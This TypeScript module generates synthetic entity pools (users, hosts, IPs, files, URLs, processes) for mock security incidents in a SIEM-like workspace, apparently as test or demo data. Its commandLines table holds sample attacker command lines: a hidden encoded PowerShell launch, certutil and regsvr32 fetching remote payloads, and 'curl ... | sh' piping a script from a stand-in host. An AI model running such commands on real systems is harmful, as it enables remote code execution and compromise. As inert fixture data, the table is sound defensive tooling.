import type { Entity, EntityKind } from "../../../model/incidents/incident";
import { entityKinds } from "../../../model/incidents/incident";
import { Rng, hashString32, mix32 } from "./seeded-random";

/**
 * Every workspace has one fixed pool of entities (its users, hosts, addresses...) and incidents draw
 * theirs from it, skewed towards a few "popular" ones. That is what makes related-by-entity queries
 * find something, and it keeps a million incidents from needing a million entity records: an
 * incident only stores which pool slots it uses, and those are regenerated from its seed.
 */
export const poolSizes: Readonly<Record<EntityKind, number>> = {
  Account: 60,
  Host: 50,
  Ip: 50,
  File: 30,
  Mailbox: 40,
  Url: 30,
  Process: 30,
};

/** Where each kind's slots start in the flat pool. */
export const poolOffsets: Readonly<Record<EntityKind, number>> = (() => {
  const offsets = {} as Record<EntityKind, number>;
  let next = 0;
  for (const kind of entityKinds) {
    offsets[kind] = next;
    next += poolSizes[kind];
  }
  return offsets;
})();

export const poolSize = entityKinds.reduce((n, kind) => n + poolSizes[kind], 0);

export interface PooledEntity {
  readonly entity: Readonly<Entity>;
  readonly lowerName: string;
}

export interface WorkspaceIdentity {
  id: string;
  name: string;
  tenantId: string;
}

/** The organisation's DNS-ish name, from the workspace name ("fabrikam-sentinel-prod" → "fabrikam"). */
export function organizationSlug(workspace: WorkspaceIdentity): string {
  const first = workspace.name.toLowerCase().split(/[^a-z0-9]+/).find((part) => part.length > 0);
  return first ?? "contoso";
}

const firstNames = ["amelia", "noah", "olivia", "liam", "sofia", "lucas", "hana", "mateo", "zara", "elias", "maya", "jonas", "ines", "omar", "freya", "kenji", "leila", "pavel", "nora", "diego", "anika", "tomas", "yara", "felix"];
const lastNames = ["schmidt", "okafor", "novak", "tanaka", "silva", "murphy", "kowalski", "haddad", "larsen", "moreau", "rossi", "nguyen", "fischer", "costa", "berg", "ahmed", "walsh", "ivanova", "lindqvist", "duarte"];
const sharedMailboxes = ["finance", "payroll", "hr", "helpdesk", "invoices", "it-support", "ceo-office", "procurement", "legal", "sales"];
const hostRoles = ["WS", "LT", "SRV", "DC", "SQL", "WEB", "FS", "VDI"];
const linuxRoles = new Set(["WEB", "SQL"]);
const fileNames = ["invoice_2024_0423.pdf.exe", "payload.dll", "update.ps1", "svch0st.exe", "Q3_report.xlsm", "setup_x64.msi", "chrome_update.js", "agent.bin", "rclone.exe", "procdump64.exe", "shipping_label.zip", "readme.hta", "xmrig", "loader.vbs", "backup.sh"];
const directories = ["C:\\Users\\Public\\Downloads", "C:\\Windows\\Temp", "C:\\ProgramData\\Updater", "C:\\Users\\Default\\AppData\\Local\\Temp", "/tmp", "/var/tmp", "/home/svc/.cache"];
const urlHosts = ["login-microsoftonline-secure.example", "sharepoint-docs-view.example", "cdn-update-check.example", "paste-mirror.example", "dropbox-share-files.example", "mail-verify-account.example", "pool.mining-stats.example", "api.telemetry-cloud.example"];
const urlPaths = ["/signin", "/doc/view", "/update/check.php", "/raw/aX9k2", "/s/invoice.zip", "/verify", "/stratum", "/v2/beacon", "/owa/auth"];
const processImages = ["powershell.exe", "cmd.exe", "rundll32.exe", "wmic.exe", "certutil.exe", "mshta.exe", "regsvr32.exe", "bash", "python3", "curl"];
const parentProcesses = ["explorer.exe", "winword.exe", "outlook.exe", "services.exe", "wmiprvse.exe", "sshd", "cron"];
const commandLines: Readonly<Record<string, string>> = {
  "powershell.exe": "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
  "cmd.exe": "cmd.exe /c whoami /all & net group \"domain admins\" /domain",
  "rundll32.exe": "rundll32.exe C:\\ProgramData\\Updater\\payload.dll,DllRegisterServer",
  "wmic.exe": "wmic.exe /node:@hosts.txt process call create \"cmd.exe /c agent.bin\"",
  "certutil.exe": "certutil.exe -urlcache -split -f https://cdn-update-check.example/update/check.php update.exe",
  "mshta.exe": "mshta.exe https://mail-verify-account.example/verify",
  "regsvr32.exe": "regsvr32.exe /s /n /u /i:https://paste-mirror.example/raw/aX9k2 scrobj.dll",
  bash: "bash -c 'curl -s https://pool.mining-stats.example/stratum | sh'",
  python3: "python3 -c 'import socket,subprocess,os'",
  curl: "curl -fsSL https://api.telemetry-cloud.example/v2/beacon",
};
const countries = ["US", "NL", "DE", "RU", "CN", "BR", "SG", "RO", "NG", "VN"];
const osVersions = ["Windows 11 23H2", "Windows 10 22H2", "Windows Server 2022", "Windows Server 2019"];

const idPrefixes: Readonly<Record<EntityKind, string>> = {
  Account: "acct",
  Host: "host",
  Ip: "ip",
  File: "file",
  Mailbox: "mbx",
  Url: "url",
  Process: "proc",
};

/** Builds a workspace's pool. Deterministic in (seed, workspace id); about 300 entities. */
export function buildEntityPool(seed: string, workspace: WorkspaceIdentity): readonly PooledEntity[] {
  const rng = new Rng(mix32(hashString32(seed), hashString32(workspace.id), 0x9001));
  const org = organizationSlug(workspace);
  const domain = `${org}.example`;
  const netbios = org.slice(0, 15).toUpperCase();
  const hostPrefix = org.slice(0, 3).toUpperCase();
  const pool: PooledEntity[] = [];
  for (const kind of entityKinds) {
    const seen = new Set<string>();
    for (let slot = 0; slot < poolSizes[kind]; slot++) {
      let made = makeEntity(kind, rng, { domain, netbios, hostPrefix });
      // Names must be unique within a kind so that "exact name" finds one entity.
      for (let attempt = 0; seen.has(made.name.toLowerCase()); attempt++) {
        made = attempt < 5 ? makeEntity(kind, rng, { domain, netbios, hostPrefix }) : disambiguate(made, slot);
      }
      seen.add(made.name.toLowerCase());
      const entity: Entity = { id: `${idPrefixes[kind]}-${rng.hex(12)}`, kind, name: made.name, properties: made.properties };
      pool.push(Object.freeze({ entity: Object.freeze(entity), lowerName: made.name.toLowerCase() }));
    }
  }
  return pool;
}

type Made = Pick<Entity, "name" | "properties">;

function disambiguate(made: Made, slot: number): Made {
  return { name: `${made.name}-${slot}`, properties: made.properties };
}

function makeEntity(kind: EntityKind, rng: Rng, org: { domain: string; netbios: string; hostPrefix: string }): Made {
  switch (kind) {
    case "Account": {
      const first = rng.pick(firstNames);
      const last = rng.pick(lastNames);
      const upn = `${first}.${last}@${org.domain}`;
      return {
        name: upn,
        properties: { upn, accountName: `${first[0]}${last}`, displayName: `${capitalise(first)} ${capitalise(last)}`, domain: org.netbios, directoryObjectId: rng.hex(32) },
      };
    }
    case "Host": {
      const role = rng.pick(hostRoles);
      const hostName = `${org.hostPrefix}-${role}-${String(rng.between(1, 4999)).padStart(4, "0")}`;
      const linux = linuxRoles.has(role) && rng.chance(0.5);
      return {
        name: hostName,
        properties: { hostName, dnsDomain: `corp.${org.domain}`, osFamily: linux ? "Linux" : "Windows", osVersion: linux ? "Ubuntu 22.04" : rng.pick(osVersions) },
      };
    }
    case "Ip": {
      const isPrivate = rng.chance(0.4);
      // Public addresses come from the documentation ranges (RFC 5737), so no real host is accused.
      const address = isPrivate ? privateAddress(rng) : `${rng.pick(["192.0.2", "198.51.100", "203.0.113"])}.${rng.between(1, 254)}`;
      return { name: address, properties: { address, isPrivate, countryCode: isPrivate ? null : rng.pick(countries) } };
    }
    case "File": {
      const fileName = rng.pick(fileNames);
      return {
        name: fileName,
        properties: { fileName, directory: rng.pick(directories), sha256: rng.hex(64), sizeBytes: rng.between(2_048, 8_000_000) },
      };
    }
    case "Mailbox": {
      const local = rng.chance(0.3) ? rng.pick(sharedMailboxes) : `${rng.pick(firstNames)}.${rng.pick(lastNames)}`;
      const address = `${local}@${org.domain}`;
      return { name: address, properties: { mailboxPrimaryAddress: address, displayName: local.split(/[.-]/).map(capitalise).join(" "), upn: address } };
    }
    case "Url": {
      const host = rng.pick(urlHosts);
      const url = `https://${host}${rng.pick(urlPaths)}?id=${rng.hex(6)}`;
      return { name: url, properties: { url, domain: host } };
    }
    case "Process": {
      const image = rng.pick(processImages);
      const processId = rng.between(300, 65_000);
      return {
        name: `${image} (${processId})`,
        properties: { processId, imageFileName: image, commandLine: commandLines[image] ?? image, parentProcessName: rng.pick(parentProcesses) },
      };
    }
  }
}

function privateAddress(rng: Rng): string {
  switch (rng.int(3)) {
    case 0:
      return `10.${rng.between(0, 255)}.${rng.between(0, 255)}.${rng.between(1, 254)}`;
    case 1:
      return `172.${rng.between(16, 31)}.${rng.between(0, 255)}.${rng.between(1, 254)}`;
    default:
      return `192.168.${rng.between(0, 255)}.${rng.between(1, 254)}`;
  }
}

function capitalise(word: string): string {
  return word.charAt(0).toUpperCase() + word.slice(1);
}
